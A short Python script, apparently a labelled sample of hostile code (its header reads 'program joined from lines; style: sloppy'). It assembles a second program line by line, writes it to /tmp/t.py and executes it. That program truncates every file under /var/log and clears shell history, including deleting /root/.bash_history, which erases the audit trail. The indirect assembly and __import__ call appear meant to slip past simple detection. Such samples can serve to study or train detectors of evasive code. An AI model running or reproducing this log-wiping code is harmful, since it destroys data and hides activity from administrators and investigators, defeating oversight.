# class: embedded, program joined from lines; style: sloppy
lines = []
lines.append("import os")
lines.append("for f in os.listdir('/var/log'):")
lines.append("    p = '/var/log/' + f")
lines.append("    if os.path.isfile(p): open(p, 'w').close()")
lines.append("os.system('history -c; rm -f /root/.bash_history')")
with open('/tmp/t.py', 'w') as f:
    f.write("\n".join(lines))
os = __import__('os')
os.system('python3 /tmp/t.py')
